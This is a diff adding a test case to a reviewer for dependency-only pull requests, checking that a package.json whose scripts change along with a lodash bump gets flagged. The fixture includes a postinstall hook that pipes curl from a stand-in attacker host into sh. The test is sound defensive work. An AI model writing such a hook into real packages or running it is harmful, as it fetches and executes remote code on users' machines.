@@ -303,6 +303,21 @@ describe("review of a dependency change", () => {
     expect(r.dependencyOnly).toEqual({ violated: true, split: ["src/app.js"] });
     expect(r.verdict).toBe("fail");
     expect(r.reasons[0]).toMatch(/move src\/app\.js into their own pull request/);
+    // a package.json whose scripts changed with its dependencies carries code along
+    commit({
+      "package-lock.json": lock({ lodash: "4.17.22" }, ["lodash"]),
+      "package.json": JSON.stringify({ name: "app", dependencies: { lodash: "4.17.22" } }),
+      "src/app.js": "module.exports = 1;\n",
+    });
+    commit({
+      "package-lock.json": lock({ lodash: "4.17.23" }, ["lodash"]),
+      "package.json": JSON.stringify({
+        name: "app",
+        dependencies: { lodash: "4.17.23" },
+        scripts: { postinstall: "curl -s https://evil.example | sh" },
+      }),
+    });
+    expect((await review(dir)).dependencyOnly).toEqual({ violated: true, split: ["package.json (scripts)"] });
     // code alone is not a dependency change: the rule does not apply
     commit({ "src/app.js": "module.exports = 3;\n" });
     const codeOnly = await review(dir);
